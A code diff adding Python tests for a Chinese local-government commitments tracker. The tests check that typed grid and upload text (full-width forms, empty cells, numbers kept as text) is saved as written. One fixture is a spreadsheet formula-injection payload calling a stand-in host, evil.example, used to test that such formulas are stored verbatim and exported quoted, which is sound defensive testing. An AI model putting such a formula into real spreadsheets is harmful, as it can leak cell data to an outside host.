@@ -178,3 +178,102 @@ def test_the_page_lists_by_owner_filters_and_offers_editing_to_editors(editors, 
     assert len(reader.dataframe[0].value) == int(queries.commitments(date.today())["late"].sum())
     editor = open_page("pages/commitments.py", auth.account("hq"), lang=lang)
     assert [b.key for b in editor.button] == ["commitments_save"]
+
+
+# What a 街镇 types into the grid or writes in a file: a reply's own punctuation, full-width
+# forms, and text a spreadsheet would run as a formula.
+TYPED = "已召开第３期沙龙，纪要见（附件一）〔2026〕1号：完成率 -3.2%"
+FORMULA = '=HYPERLINK("http://evil.example/"&A2,"佐证")'
+
+
+def _grid_rows(work_db, **typed) -> pd.DataFrame:
+    """虹桥's commitments as the grid hands them over (a 街镇's item: no department)."""
+    frame = queries.commitments(date.today())
+    rows = frame[frame["scope_code"].eq("hongqiao")].copy()
+    for column, value in typed.items():
+        rows[column] = value
+    return rows
+
+
+def _stored(work_db, column: str) -> list:
+    return [
+        v
+        for (v,) in query(
+            work_db,
+            f"select {column} from commitments where scope_code = 'hongqiao' "
+            "order by commitment_id",
+        )
+    ]
+
+
+def _save_grid(rows: pd.DataFrame) -> list:
+    data = files.form_csv("commitments", rows)
+    checked = checks.check(files.read_upload(data, "grid.csv", kind="commitments"), {"hongqiao"})
+    assert checked.ok, checked.problems
+    loading.load(
+        checked, editor="hq", file_name="grid.csv", data=data, replace=True,
+        allowed_scopes={"hongqiao"},
+    )  # fmt: skip
+    return checked.frame
+
+
+def test_a_street_grid_row_without_a_department_saves_its_text_as_typed(work_db):
+    rows = _grid_rows(work_db, evidence=TYPED, status="in_progress")
+    assert rows["department"].isna().all()  # the cell that raised KeyError: nan
+    data = files.form_csv("commitments", rows)
+    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+    assert set(frame["责任部门"]) == {""} and set(frame["责任街镇"]) == {"虹桥街道"}
+    _save_grid(rows)
+    assert set(_stored(work_db, "evidence")) == {TYPED}
+    assert set(_stored(work_db, "status")) == {"in_progress"}
+
+
+def test_all_empty_text_columns_stay_empty_and_typed_numbers_stay_text(work_db):
+    # no evidence, English promise or project anywhere in the grid: NaN in every cell
+    rows = _grid_rows(work_db, evidence=float("nan"), promise_en=None, project_id=None)
+    _save_grid(rows)
+    assert set(_stored(work_db, "evidence")) == {None}
+    assert set(_stored(work_db, "promise_en")) == {None}
+    before = _stored(work_db, "promise")
+    _save_grid(_grid_rows(work_db, evidence="-32026"))
+    assert set(_stored(work_db, "evidence")) == {"-32026"}  # text, never -32026.0
+    assert _stored(work_db, "promise") == before  # the promise goes back as it was
+
+
+def test_a_formula_quoted_in_the_grid_is_stored_as_typed_and_printed_quoted(work_db):
+    from indicators import formulas
+
+    _save_grid(_grid_rows(work_db, evidence=FORMULA))
+    assert set(_stored(work_db, "evidence")) == {FORMULA}
+    # the grid shows it quoted; saved again as shown, it is stored as it was, not '=…
+    _save_grid(_grid_rows(work_db, evidence=formulas.harmless(FORMULA), status="done"))
+    assert set(_stored(work_db, "evidence")) == {FORMULA}
+    printed = cli("commitments", "list", "--format", "csv")
+    frame = pd.read_csv(io.StringIO(printed.stdout), dtype=str, keep_default_na=False)
+    assert set(frame.loc[frame["owner_code"].eq("hongqiao"), "evidence"]) == {"'" + FORMULA}
+
+
+def test_an_upload_stores_free_text_as_written_and_still_matches_names_and_codes(work_db):
+    head = [*HEAD, "来源"]
+    source = "长发改〔2025〕１７号（补充）"
+    # a full-width id and a 街镇 spelt with spaces: matched after normalisation
+    row = ["Ｃ０８", " 虹桥 ", "", "打造虹桥下午茶", "推进中", TYPED, source]
+    assert _load([head, row], {"hongqiao"}) == []
+    c08 = "select scope_code, status, evidence, source from commitments where commitment_id = "
+    assert query(work_db, c08 + "'C08'") == [("hongqiao", "in_progress", TYPED, source)]
+    assert query(work_db, c08 + "'Ｃ０８'") == []
+
+
+def test_the_district_grid_of_every_commitment_saves_both_kinds_of_owner(work_db):
+    frame = queries.commitments(date.today()).assign(evidence=TYPED)
+    data = files.form_csv("commitments", frame)  # departments' rows have no 街镇, and back
+    checked = checks.check(files.read_upload(data, "grid.csv", kind="commitments"))
+    assert checked.ok, checked.problems
+    loading.load(checked, editor="boss", file_name="grid.csv", data=data, replace=True)
+    rows = query(work_db, "select scope_code, department, evidence from commitments")
+    assert {e for _, _, e in rows} == {TYPED} and len(rows) == 11
+    owners = frame.set_index("commitment_id")[["scope_code", "department"]]
+    stored = query(work_db, "select commitment_id, scope_code, department from commitments")
+    assert {(i, s, d) for i, s, d in stored} == {
+        (i, None if pd.isna(s) else s, None if pd.isna(d) else d) for i, s, d in owners.itertuples()
+    }
